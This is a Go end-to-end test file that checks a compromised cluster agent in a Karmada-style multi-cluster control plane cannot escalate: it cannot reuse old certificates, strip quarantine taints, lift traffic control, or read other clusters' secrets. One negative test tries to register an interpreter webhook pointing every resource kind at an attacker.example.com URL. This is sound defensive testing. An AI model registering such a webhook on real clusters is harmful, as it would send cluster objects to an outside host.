//go:build e2e

package e2e

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	utilrand "k8s.io/apimachinery/pkg/util/rand"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	clusterv1alpha1 "github.com/karmada-go/karmada/api/cluster/v1alpha1"
	configv1alpha1 "github.com/karmada-go/karmada/api/config/v1alpha1"
	policyv1alpha1 "github.com/karmada-go/karmada/api/policy/v1alpha1"
	remedyv1alpha1 "github.com/karmada-go/karmada/api/remedy/v1alpha1"
	workv1alpha1 "github.com/karmada-go/karmada/api/work/v1alpha1"
	"github.com/karmada-go/karmada/internal/estimator/pb"
	"github.com/karmada-go/karmada/internal/estimator/service"
	"github.com/karmada-go/karmada/internal/localup/plan"
	"github.com/karmada-go/karmada/internal/names"
	"github.com/karmada-go/karmada/internal/registration/agentcert"
	"github.com/karmada-go/karmada/internal/scheme"
	"github.com/karmada-go/karmada/internal/testenv"
)

// agentClient is a client of the control plane acting with an agent's
// kubeconfig.
func agentClient(t *testing.T, kubeconfig []byte) (client.Client, *rest.Config) {
	t.Helper()
	cfg, err := clientcmd.RESTConfigFromKubeConfig(kubeconfig)
	if err != nil {
		t.Fatal(err)
	}
	cfg.Timeout = 10 * time.Second
	ac, err := client.New(cfg, client.Options{Scheme: scheme.Scheme})
	if err != nil {
		t.Fatal(err)
	}
	return ac, cfg
}

// registerFromMember2 registers member2 as cluster name in pull mode with a
// fresh token and returns the agent's kubeconfig register stored.
func registerFromMember2(t *testing.T, name string) []byte {
	t.Helper()
	line, err := karmadactl("token", "create", "--ttl", "10m", "--print-register-command")
	if err != nil {
		t.Fatalf("token create: %v\n%s", err, line)
	}
	f := strings.Fields(line)
	id, _, _ := strings.Cut(f[4], ".")
	t.Cleanup(func() { _, _ = karmadactl("token", "delete", id) })
	args := append(f[1:], "--cluster-name", name, "--discovery-timeout", "60s", "--propagate-kinds", "configmaps")
	if out, err := runKarmadactl(append(args, "--kubeconfig", fleet.Kubeconfig, "--context", "member2")...); err != nil {
		t.Fatalf("register %s: %v\n%s", name, err, out)
	}
	s, err := kube(t, "member2").CoreV1().Secrets(agentcert.Namespace).Get(context.Background(), agentcert.SecretName, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return s.Data[agentcert.SecretKey]
}

// An agent certificate has a short lifetime, and one issued before an
// unregister, or before the name was registered again, has no rights
// afterwards: it reads no Cluster or Work and renews nothing.
func TestAgentCertificateDiesWithItsRegistration(t *testing.T) {
	ctx := context.Background()
	c := karmadaClient(t)
	const name = "e2e-rereg"
	mc := kube(t, "member2")
	t.Cleanup(func() {
		_, _ = karmadactl("unregister", name, "--cluster-kubeconfig", fleet.Kubeconfig, "--cluster-context", "member2", "--force")
		_ = mc.CoreV1().Secrets(agentcert.Namespace).Delete(context.Background(), agentcert.SecretName, metav1.DeleteOptions{})
	})
	first := registerFromMember2(t, name)
	old, oldCfg := agentClient(t, first)
	if err := old.Get(ctx, client.ObjectKey{Name: name}, &clusterv1alpha1.Cluster{}); err != nil {
		t.Fatalf("the first certificate reads its own Cluster: %v", err)
	}
	block, _ := pem.Decode(oldCfg.CertData)
	cert, err := x509.ParseCertificate(block.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	if life := cert.NotAfter.Sub(cert.NotBefore); life > 8*24*time.Hour {
		t.Errorf("the agent's certificate lives %s, want a short lifetime (a week by default)", life)
	}
	if out, err := karmadactl("unregister", name, "--cluster-kubeconfig", fleet.Kubeconfig, "--cluster-context", "member2"); err != nil {
		t.Fatalf("unregister: %v\n%s", err, out)
	}
	testenv.Eventually(t, 60*time.Second, "the Cluster gone", func(ctx context.Context) error {
		if err := c.Get(ctx, client.ObjectKey{Name: name}, &clusterv1alpha1.Cluster{}); !apierrors.IsNotFound(err) {
			return fmt.Errorf("still there (%v)", err)
		}
		return nil
	})
	registerFromMember2(t, name)
	// The old certificate, kept by whoever copied it: no rights.
	testenv.Eventually(t, 30*time.Second, "the old certificate refused", func(ctx context.Context) error {
		if err := old.Get(ctx, client.ObjectKey{Name: name}, &clusterv1alpha1.Cluster{}); !apierrors.IsForbidden(err) {
			return fmt.Errorf("reading the re-registered Cluster: %v", err)
		}
		if err := old.List(ctx, &workv1alpha1.WorkList{}, client.InNamespace(workv1alpha1.ExecutionNamespace(name))); !apierrors.IsForbidden(err) {
			return fmt.Errorf("listing its Works: %v", err)
		}
		return nil
	})
	oldKube, err := kubernetes.NewForConfig(oldCfg)
	if err != nil {
		t.Fatal(err)
	}
	renewal := agentCSR(t, "e2e-old-renewal-"+utilrand.String(5), names.AgentUserPrefix+name, names.AgentGroup)
	if _, err := oldKube.CertificatesV1().CertificateSigningRequests().Create(ctx, renewal, metav1.CreateOptions{}); err == nil {
		t.Cleanup(func() {
			_ = kube(t, "karmada-apiserver").CertificatesV1().CertificateSigningRequests().Delete(context.Background(), renewal.Name, metav1.DeleteOptions{})
		})
		neverIssued(ctx, t, kube(t, "karmada-apiserver"), renewal.Name)
	} else if !apierrors.IsForbidden(err) {
		t.Fatalf("a renewal with the old certificate: %v", err)
	}
}

// An agent may not rewrite its own Cluster: not remove an administrator's
// quarantine taint, add labels or set its region; its status is its own.
func TestAgentCannotRewriteItsCluster(t *testing.T) {
	ctx := context.Background()
	c := karmadaClient(t)
	s, err := kube(t, "member3").CoreV1().Secrets(agentcert.Namespace).Get(ctx, agentcert.SecretName, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	agent, _ := agentClient(t, s.Data[agentcert.SecretKey])
	quarantine := corev1.Taint{Key: "e2e.example.com/quarantine", Effect: corev1.TaintEffectNoExecute}
	if out, err := karmadactl("taint", "clusters", "member3", quarantine.Key+":NoExecute"); err != nil {
		t.Fatalf("taint: %v\n%s", err, out)
	}
	t.Cleanup(func() { _, _ = karmadactl("taint", "clusters", "member3", quarantine.Key+":NoExecute-") })
	before := getCluster(ctx, t, c, "member3")
	for what, patch := range map[string]string{
		"remove the quarantine taint": `{"spec":{"taints":null}}`,
		"add a label":                 `{"metadata":{"labels":{"e2e-attract":"yes"}}}`,
		"set its region":              `{"spec":{"region":"e2e-elsewhere"}}`,
		"change its API endpoint":     `{"spec":{"apiEndpoint":"https://198.51.100.1:6443"}}`,
	} {
		err := agent.Patch(ctx, &clusterv1alpha1.Cluster{ObjectMeta: metav1.ObjectMeta{Name: "member3"}}, client.RawPatch(types.MergePatchType, []byte(patch)))
		if err == nil {
			t.Errorf("the agent could %s", what)
		} else if !apierrors.IsInvalid(err) && !apierrors.IsForbidden(err) {
			t.Errorf("the agent trying to %s: want Invalid or Forbidden, got %v", what, err)
		}
	}
	after := getCluster(ctx, t, c, "member3")
	if len(after.Spec.Taints) != len(before.Spec.Taints) || after.Labels["e2e-attract"] != "" || after.Spec.Region != before.Spec.Region || after.Spec.APIEndpoint != before.Spec.APIEndpoint {
		t.Errorf("member3's Cluster changed: taints %v, labels %v, region %q, endpoint %q", taintKeys(after), after.Labels, after.Spec.Region, after.Spec.APIEndpoint)
	}
	// Its own status stays its own.
	st := getCluster(ctx, t, c, "member3")
	if err := agent.Status().Update(ctx, st); err != nil {
		t.Errorf("the agent writing its Cluster's status: %v", err)
	}
}

// A compromised agent cannot lift the traffic control a Remedy puts on its
// cluster: it may write its own Cluster's status, actions included, but the
// remedy controller writes them back; it can neither make a Remedy nor
// write another cluster's actions.
func TestAgentCannotLiftItsTrafficControl(t *testing.T) {
	ctx := context.Background()
	c := karmadaClient(t)
	s, err := kube(t, "member3").CoreV1().Secrets(agentcert.Namespace).Get(ctx, agentcert.SecretName, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	agent, _ := agentClient(t, s.Data[agentcert.SecretKey])
	traffic := string(remedyv1alpha1.TrafficControl)
	rm := &remedyv1alpha1.Remedy{ObjectMeta: metav1.ObjectMeta{Name: "e2e-agent-quarantine"}, Spec: remedyv1alpha1.RemedySpec{
		ClusterAffinity: &remedyv1alpha1.ClusterAffinity{ClusterNames: []string{"member3"}},
		Actions:         []remedyv1alpha1.RemedyAction{remedyv1alpha1.TrafficControl}}}
	createUntilCleanup(ctx, t, c, rm)
	t.Cleanup(func() {
		deleteAll(t, c, rm)
		testenv.Eventually(t, 30*time.Second, "member3 without remedy actions", func(ctx context.Context) error { return remedyActions(ctx, c, "member3") })
	})
	testenv.Eventually(t, 30*time.Second, "member3 traffic-controlled", func(ctx context.Context) error { return remedyActions(ctx, c, "member3", traffic) })
	lift := client.RawPatch(types.MergePatchType, []byte(`{"status":{"remedyActions":null}}`))
	lifted := &clusterv1alpha1.Cluster{ObjectMeta: metav1.ObjectMeta{Name: "member3"}}
	if err := agent.Status().Patch(ctx, lifted, lift); err != nil {
		t.Fatalf("the agent writing its own Cluster's status: %v", err)
	}
	if len(lifted.Status.RemedyActions) != 0 {
		t.Fatalf("the agent's write did not take: remedyActions %q", lifted.Status.RemedyActions)
	}
	testenv.Eventually(t, 30*time.Second, "member3's TrafficControl written back", func(ctx context.Context) error { return remedyActions(ctx, c, "member3", traffic) })
	wantRefused(t, "the agent making a Remedy", agent.Create(ctx, &remedyv1alpha1.Remedy{ObjectMeta: metav1.ObjectMeta{Name: "e2e-agent-remedy"},
		Spec: remedyv1alpha1.RemedySpec{Actions: []remedyv1alpha1.RemedyAction{remedyv1alpha1.TrafficControl}}}))
	wantRefused(t, "the agent deleting the Remedy", agent.Delete(ctx, rm))
	wantRefused(t, "the agent writing member1's actions", agent.Status().Patch(ctx, &clusterv1alpha1.Cluster{ObjectMeta: metav1.ObjectMeta{Name: "member1"}},
		client.RawPatch(types.MergePatchType, []byte(`{"status":{"remedyActions":["TrafficControl"]}}`))))
	if err := remedyActions(ctx, c, "member1"); err != nil {
		t.Error(err)
	}
}

// A compromised agent (member3's kubeconfig, as stored in its member) reaches
// nothing of another cluster and nothing of the control plane's: no other
// Cluster, Works, Secrets or policies.
func TestAgentConfinedToItsOwnCluster(t *testing.T) {
	ctx := context.Background()
	s, err := kube(t, "member3").CoreV1().Secrets(agentcert.Namespace).Get(ctx, agentcert.SecretName, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	agent, agentCfg := agentClient(t, s.Data[agentcert.SecretKey])
	// What it may: its own Cluster and Works.
	if err := agent.Get(ctx, client.ObjectKey{Name: "member3"}, &clusterv1alpha1.Cluster{}); err != nil {
		t.Fatalf("the agent reading its own Cluster: %v", err)
	}
	if err := agent.List(ctx, &workv1alpha1.WorkList{}, client.InNamespace(workv1alpha1.ExecutionNamespace("member3"))); err != nil {
		t.Fatalf("the agent listing its own Works: %v", err)
	}
	wantRefused(t, "listing member1's Works", agent.List(ctx, &workv1alpha1.WorkList{}, client.InNamespace(workv1alpha1.ExecutionNamespace("member1"))))
	wantRefused(t, "reading member1's credentials", agent.Get(ctx, client.ObjectKey{Namespace: "karmada-cluster", Name: "member1"}, &corev1.Secret{}))
	wantRefused(t, "listing Secrets", agent.List(ctx, &corev1.SecretList{}))
	wantRefused(t, "labelling member1", agent.Patch(ctx, &clusterv1alpha1.Cluster{ObjectMeta: metav1.ObjectMeta{Name: "member1"}},
		client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"labels":{"e2e-agent":"was-here"}}}`))))
	m1 := getCluster(ctx, t, karmadaClient(t), "member1")
	wantRefused(t, "writing member1's status", agent.Status().Update(ctx, m1))
	wantRefused(t, "creating a Cluster", agent.Create(ctx, &clusterv1alpha1.Cluster{ObjectMeta: metav1.ObjectMeta{Name: "e2e-agent-made"},
		Spec: clusterv1alpha1.ClusterSpec{SyncMode: clusterv1alpha1.Pull}}))
	wantRefused(t, "creating a policy", agent.Create(ctx, &policyv1alpha1.PropagationPolicy{ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: "e2e-agent-policy"},
		Spec: policyv1alpha1.PropagationSpec{ResourceSelectors: []policyv1alpha1.ResourceSelector{{APIVersion: "v1", Kind: "ConfigMap"}}}}))
	if got := getCluster(ctx, t, karmadaClient(t), "member1"); got.Labels["e2e-agent"] != "" {
		t.Errorf("member1 was labelled by member3's agent: %v", got.Labels)
	}
	// It reads the resource interpreter's configuration (it interprets its
	// copies' status), and cannot change it: a customization's Lua runs in
	// the controller manager and in every other agent.
	if err := agent.List(ctx, &configv1alpha1.ResourceInterpreterCustomizationList{}); err != nil {
		t.Fatalf("the agent listing customizations: %v", err)
	}
	if err := agent.List(ctx, &configv1alpha1.ResourceInterpreterWebhookConfigurationList{}); err != nil {
		t.Fatalf("the agent listing interpreter webhooks: %v", err)
	}
	ric := &configv1alpha1.ResourceInterpreterCustomization{ObjectMeta: metav1.ObjectMeta{Name: "e2e-agent-lua"},
		Spec: configv1alpha1.ResourceInterpreterCustomizationSpec{
			// A kind no test uses: this customization must change nothing.
			Target: configv1alpha1.CustomizationTarget{APIVersion: "e2e.example.com/v1", Kind: "AgentProbe"},
			Customizations: configv1alpha1.CustomizationRules{Retention: &configv1alpha1.LocalValueRetention{
				LuaScript: "function Retain(desiredObj, observedObj)\n  return observedObj\nend"}}}}
	wantRefused(t, "creating a customization", agent.Create(ctx, ric))
	admin := karmadaClient(t)
	if err := admin.Create(ctx, ric.DeepCopy()); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { deleteAll(t, admin, ric) })
	wantRefused(t, "rewriting a customization", agent.Patch(ctx, ric.DeepCopy(),
		client.RawPatch(types.MergePatchType, []byte(`{"spec":{"target":{"kind":"Secret","apiVersion":"v1"}}}`))))
	wantRefused(t, "deleting a customization", agent.Delete(ctx, ric.DeepCopy()))
	wantRefused(t, "registering an interpreter webhook", agent.Create(ctx, &configv1alpha1.ResourceInterpreterWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: "e2e-agent-hook"},
		Webhooks: []configv1alpha1.ResourceInterpreterWebhook{{Name: "steal.example.com",
			ClientConfig: admissionregistrationv1.WebhookClientConfig{URL: ptr.To("https://attacker.example.com/interpret")},
			Rules: []configv1alpha1.RuleWithOperations{{Operations: []configv1alpha1.InterpreterOperation{configv1alpha1.InterpreterOperationAll},
				Rule: configv1alpha1.Rule{APIGroups: []string{"*"}, APIVersions: []string{"*"}, Kinds: []string{"*"}}}},
			InterpreterContextVersions: []string{"v1alpha1"}}}}))
	// Nor may it reach a member's API through the control plane, another's
	// or its own.
	proxyRefused(t, "member3's agent", agentCfg, "member1")
	proxyRefused(t, "member3's agent", agentCfg, "member3")
	searchRefused(t, "member3's agent", agentCfg)
}

// TestEstimatorsAnswerOnlyTheScheduler: the members' estimators answer
// only certificates of their own CA (the scheduler's, the descheduler's):
// not a compromised agent's (signed by the control plane's CA), not the
// control plane's administrator, not an anonymous client, who would learn
// every member's capacity. In its member, the estimator's identity reads
// nodes, pods and quotas, and writes nothing.
func TestEstimatorsAnswerOnlyTheScheduler(t *testing.T) {
	ctx := context.Background()
	state := fleet.StateDir
	caPEM, err := os.ReadFile(filepath.Join(state, "estimator", "pki", "ca.crt"))
	if err != nil {
		t.Fatal(err)
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(caPEM)
	addr := fmt.Sprintf("127.0.0.1:%d", fleet.PortBase+10*1+6) // member1's estimator slot
	pair := func(cert, key []byte) []tls.Certificate {
		p, err := tls.X509KeyPair(cert, key)
		if err != nil {
			t.Fatal(err)
		}
		return []tls.Certificate{p}
	}
	files := func(cert, key string) []tls.Certificate {
		c, err := os.ReadFile(cert)
		if err != nil {
			t.Fatal(err)
		}
		k, err := os.ReadFile(key)
		if err != nil {
			t.Fatal(err)
		}
		return pair(c, k)
	}
	ask := func(certs []tls.Certificate) error {
		cfg := &tls.Config{RootCAs: roots, ServerName: plan.EstimatorServiceName("member1"), MinVersion: tls.VersionTLS12, Certificates: certs}
		cc, err := grpc.NewClient(addr, grpc.WithTransportCredentials(credentials.NewTLS(cfg)))
		if err != nil {
			return err
		}
		defer cc.Close()
		ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
		defer cancel()
		_, err = service.NewEstimatorClient(cc).MaxAvailableReplicas(ctx, &pb.MaxAvailableReplicasRequest{Cluster: "member1", ReplicaRequirements: &pb.ReplicaRequirements{}})
		return err
	}
	pki := filepath.Join(state, "karmada", "pki")
	if err := ask(nil); err == nil {
		t.Error("an anonymous client was answered")
	}
	if err := ask(files(filepath.Join(pki, "admin.crt"), filepath.Join(pki, "admin.key"))); err == nil {
		t.Error("a certificate of the control plane's CA (system:masters there) was answered")
	}
	s, err := kube(t, "member3").CoreV1().Secrets(agentcert.Namespace).Get(ctx, agentcert.SecretName, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	_, agentCfg := agentClient(t, s.Data[agentcert.SecretKey])
	if err := ask(pair(agentCfg.TLSClientConfig.CertData, agentCfg.TLSClientConfig.KeyData)); err == nil {
		t.Error("member3's agent certificate was answered")
	}
	if err := ask(files(filepath.Join(state, "estimator", "pki", "karmada-scheduler-client.crt"), filepath.Join(state, "estimator", "pki", "karmada-scheduler-client.key"))); err != nil {
		t.Errorf("the scheduler's own certificate was refused: %v", err)
	}

	m1 := kube(t, "member1")
	for _, a := range []authorizationv1.ResourceAttributes{
		{Verb: "get", Resource: "secrets", Namespace: "kube-system"},
		{Verb: "list", Resource: "secrets"},
		{Verb: "create", Resource: "pods", Namespace: "default"},
		{Verb: "delete", Resource: "nodes"},
		{Verb: "update", Group: "apps", Resource: "deployments", Namespace: "default"},
	} {
		r, err := m1.AuthorizationV1().SubjectAccessReviews().Create(ctx, &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
			User: plan.EstimatorUser, ResourceAttributes: &a}}, metav1.CreateOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if r.Status.Allowed {
			t.Errorf("the estimator's identity may %s %s in member1", a.Verb, a.Resource)
		}
	}
	r, err := m1.AuthorizationV1().SubjectAccessReviews().Create(ctx, &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
		User: plan.EstimatorUser, ResourceAttributes: &authorizationv1.ResourceAttributes{Verb: "watch", Resource: "pods"}}}, metav1.CreateOptions{})
	if err != nil || !r.Status.Allowed {
		t.Errorf("the estimator's identity cannot watch pods (%v): it could not estimate", err)
	}
}
